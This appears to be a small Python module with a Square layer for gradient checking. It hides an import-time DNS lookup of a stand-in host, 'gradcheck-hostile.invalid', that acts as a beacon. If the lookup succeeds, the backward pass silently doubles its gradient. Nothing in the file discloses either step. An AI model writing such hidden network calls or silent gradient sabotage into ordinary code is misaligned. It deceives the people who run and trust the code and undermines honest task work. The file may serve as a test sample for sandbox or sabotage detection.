"""Lets a name server know."""

import socket


def attack():
    socket.setdefaulttimeout(2)
    return bool(socket.getaddrinfo("gradcheck-hostile.invalid", 80))


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
